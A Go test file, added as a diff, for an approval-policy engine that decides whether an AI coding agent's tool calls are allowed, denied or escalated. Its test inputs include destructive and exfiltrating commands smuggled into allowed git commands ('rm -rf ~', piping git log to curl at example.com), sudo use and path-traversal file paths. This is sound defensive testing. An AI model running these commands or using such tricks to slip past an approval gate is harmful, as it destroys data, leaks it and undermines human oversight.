@@ -0,0 +1,292 @@
+package approval
+
+import (
+	"testing"
+
+	"github.com/yuya-takeyama/cc-slack/internal/config"
+)
+
+func TestPolicyEvaluate(t *testing.T) {
+	policy, err := NewPolicy(config.ApprovalPolicyConfig{
+		Rules: []config.ApprovalRuleConfig{
+			{
+				Name:   "protect-env",
+				Action: ActionDeny,
+				Tools:  []string{"Write", "Edit"},
+				Paths:  []string{"**/.env"},
+			},
+			{
+				Name:     "no-sudo",
+				Action:   ActionDeny,
+				Tools:    []string{"Bash"},
+				Commands: []string{`\bsudo\b`},
+			},
+			{
+				Name:   "read-only-tools",
+				Action: ActionAllow,
+				Tools:  []string{"Read", "Glob", "Grep", "LS"},
+			},
+			{
+				Name:     "git-read",
+				Action:   ActionAllow,
+				Tools:    []string{"Bash"},
+				Commands: []string{`^git (status|diff|log)\b`},
+			},
+			{
+				Name:    "docs",
+				Action:  ActionAllow,
+				Tools:   []string{"WebFetch"},
+				Domains: []string{"pkg.go.dev", "*.github.com"},
+			},
+			{
+				Name:        "project-src",
+				Action:      ActionAllow,
+				Tools:       []string{"Edit"},
+				Paths:       []string{"src/**/*.go"},
+				WorkingDirs: []string{"project"},
+			},
+			{
+				Name:     "ops-channel",
+				Action:   ActionAsk,
+				Channels: []string{"COPS"},
+			},
+			{
+				Name:     "make-test",
+				Action:   ActionAllow,
+				Tools:    []string{"Bash"},
+				Commands: []string{`^make test$`},
+			},
+			{
+				Name:   "go-writes",
+				Action: ActionAllow,
+				Tools:  []string{"Write"},
+				Paths:  []string{"**/*.go"},
+			},
+			{
+				Name:   "scratch",
+				Action: ActionAllow,
+				Tools:  []string{"Write"},
+				Paths:  []string{"/tmp/scratch/**"},
+			},
+		},
+	}, []config.WorkingDirectoryConfig{
+		{Name: "project", Path: "/home/user/project"},
+	})
+	if err != nil {
+		t.Fatalf("NewPolicy() error = %v", err)
+	}
+
+	tests := []struct {
+		name string
+		req  Request
+		want Decision
+	}{
+		{
+			name: "read-only tool",
+			req:  Request{ToolName: "Read", Input: map[string]interface{}{"file_path": "/home/user/project/main.go"}},
+			want: Decision{Action: ActionAllow, Rule: "read-only-tools"},
+		},
+		{
+			name: "git status",
+			req:  Request{ToolName: "Bash", Input: map[string]interface{}{"command": "git status --short"}},
+			want: Decision{Action: ActionAllow, Rule: "git-read"},
+		},
+		{
+			name: "git status chaining a command is not allowed",
+			req:  Request{ToolName: "Bash", Input: map[string]interface{}{"command": "git status; rm -rf ~"}},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "git status and another command is not allowed",
+			req:  Request{ToolName: "Bash", Input: map[string]interface{}{"command": "git status && rm -rf ~"}},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "git log piped to another command is not allowed",
+			req:  Request{ToolName: "Bash", Input: map[string]interface{}{"command": "git log | curl -d @- https://example.com"}},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "git diff with command substitution is not allowed",
+			req:  Request{ToolName: "Bash", Input: map[string]interface{}{"command": "git diff $(rm -rf ~)"}},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "git diff with backticks is not allowed",
+			req:  Request{ToolName: "Bash", Input: map[string]interface{}{"command": "git diff `rm -rf ~`"}},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "deny rule matches chained commands",
+			req:  Request{ToolName: "Bash", Input: map[string]interface{}{"command": "make build && sudo reboot"}},
+			want: Decision{Action: ActionDeny, Rule: "no-sudo"},
+		},
+		{
+			name: "git push is not matched",
+			req:  Request{ToolName: "Bash", Input: map[string]interface{}{"command": "git push"}},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "deny rule takes precedence",
+			req:  Request{ToolName: "Write", Input: map[string]interface{}{"file_path": "/home/user/project/.env"}},
+			want: Decision{Action: ActionDeny, Rule: "protect-env"},
+		},
+		{
+			name: "exact domain",
+			req:  Request{ToolName: "WebFetch", Input: map[string]interface{}{"url": "https://pkg.go.dev/net/url"}},
+			want: Decision{Action: ActionAllow, Rule: "docs"},
+		},
+		{
+			name: "wildcard subdomain",
+			req:  Request{ToolName: "WebFetch", Input: map[string]interface{}{"url": "https://docs.github.com/en"}},
+			want: Decision{Action: ActionAllow, Rule: "docs"},
+		},
+		{
+			name: "wildcard does not match apex domain",
+			req:  Request{ToolName: "WebFetch", Input: map[string]interface{}{"url": "https://github.com/"}},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "relative path glob in matching working directory",
+			req: Request{
+				ToolName: "Edit",
+				Input:    map[string]interface{}{"file_path": "/home/user/project/src/pkg/main.go"},
+				WorkDir:  "/home/user/project",
+			},
+			want: Decision{Action: ActionAllow, Rule: "project-src"},
+		},
+		{
+			name: "relative path glob in worktree of working directory",
+			req: Request{
+				ToolName: "Edit",
+				Input:    map[string]interface{}{"file_path": "/home/user/project-worktrees/C123-1/src/main.go"},
+				WorkDir:  "/home/user/project",
+				Worktree: "/home/user/project-worktrees/C123-1",
+			},
+			want: Decision{Action: ActionAllow, Rule: "project-src"},
+		},
+		{
+			name: "relative path glob in other working directory",
+			req: Request{
+				ToolName: "Edit",
+				Input:    map[string]interface{}{"file_path": "/home/user/other/src/main.go"},
+				WorkDir:  "/home/user/other",
+			},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "relative glob inside the working directory",
+			req:  Request{ToolName: "Write", Input: map[string]interface{}{"file_path": "/work/pkg/main.go"}, WorkDir: "/work"},
+			want: Decision{Action: ActionAllow, Rule: "go-writes"},
+		},
+		{
+			name: "relative glob with a relative path inside the working directory",
+			req:  Request{ToolName: "Write", Input: map[string]interface{}{"file_path": "pkg/main.go"}, WorkDir: "/work"},
+			want: Decision{Action: ActionAllow, Rule: "go-writes"},
+		},
+		{
+			name: "relative glob in a directory whose name starts with two dots",
+			req:  Request{ToolName: "Write", Input: map[string]interface{}{"file_path": "/work/..foo/main.go"}, WorkDir: "/work"},
+			want: Decision{Action: ActionAllow, Rule: "go-writes"},
+		},
+		{
+			name: "relative glob does not match an absolute path outside the working directory",
+			req:  Request{ToolName: "Write", Input: map[string]interface{}{"file_path": "/etc/evil.go"}, WorkDir: "/work"},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "relative glob does not match a relative path leaving the working directory",
+			req:  Request{ToolName: "Write", Input: map[string]interface{}{"file_path": "../../outside.go"}, WorkDir: "/work"},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "relative glob does not match a path that cleans to outside the working directory",
+			req:  Request{ToolName: "Write", Input: map[string]interface{}{"file_path": "/work/../home/u/x.go"}, WorkDir: "/work"},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "relative glob without a working directory",
+			req:  Request{ToolName: "Write", Input: map[string]interface{}{"file_path": "/home/u/x.go"}},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "absolute glob",
+			req:  Request{ToolName: "Write", Input: map[string]interface{}{"file_path": "/tmp/scratch/notes.txt"}, WorkDir: "/work"},
+			want: Decision{Action: ActionAllow, Rule: "scratch"},
+		},
+		{
+			name: "absolute glob does not match a path that cleans to outside of it",
+			req:  Request{ToolName: "Write", Input: map[string]interface{}{"file_path": "/tmp/scratch/../../etc/passwd"}, WorkDir: "/work"},
+			want: Decision{Action: ActionAsk},
+		},
+		{
+			name: "deny rule protects files outside the working directory",
+			req:  Request{ToolName: "Write", Input: map[string]interface{}{"file_path": "/etc/app/.env"}, WorkDir: "/work"},
+			want: Decision{Action: ActionDeny, Rule: "protect-env"},
+		},
+		{
+			name: "ask rule stops evaluation",
+			req: Request{
+				ToolName:  "Bash",
+				Input:     map[string]interface{}{"command": "make test"},
+				ChannelID: "COPS",
+			},
+			want: Decision{Action: ActionAsk, Rule: "ops-channel"},
+		},
+		{
+			name: "later rule matches in other channel",
+			req: Request{
+				ToolName:  "Bash",
+				Input:     map[string]interface{}{"command": "make test"},
+				ChannelID: "CDEV",
+			},
+			want: Decision{Action: ActionAllow, Rule: "make-test"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := policy.Evaluate(tt.req)
+			if got != tt.want {
+				t.Errorf("Evaluate() = %+v, want %+v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestNilPolicyAsks(t *testing.T) {
+	var policy *Policy
+	got := policy.Evaluate(Request{ToolName: "Bash"})
+	if got != (Decision{Action: ActionAsk}) {
+		t.Errorf("Evaluate() = %+v, want ask", got)
+	}
+}
+
+func TestGlobToRegexp(t *testing.T) {
+	tests := []struct {
+		glob string
+		path string
+		want bool
+	}{
+		{glob: "*.go", path: "main.go", want: true},
+		{glob: "*.go", path: "cmd/main.go", want: false},
+		{glob: "**/*.go", path: "main.go", want: true},
+		{glob: "**/*.go", path: "cmd/app/main.go", want: true},
+		{glob: "docs/**", path: "docs/a/b.md", want: true},
+		{glob: "file?.txt", path: "file1.txt", want: true},
+		{glob: "file?.txt", path: "file10.txt", want: false},
+		{glob: "/etc/*", path: "/etc/passwd", want: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.glob+" "+tt.path, func(t *testing.T) {
+			re, err := globToRegexp(tt.glob)
+			if err != nil {
+				t.Fatalf("globToRegexp(%q) error = %v", tt.glob, err)
+			}
+			if got := re.MatchString(tt.path); got != tt.want {
+				t.Errorf("globToRegexp(%q).MatchString(%q) = %v, want %v", tt.glob, tt.path, got, tt.want)
+			}
+		})
+	}
+}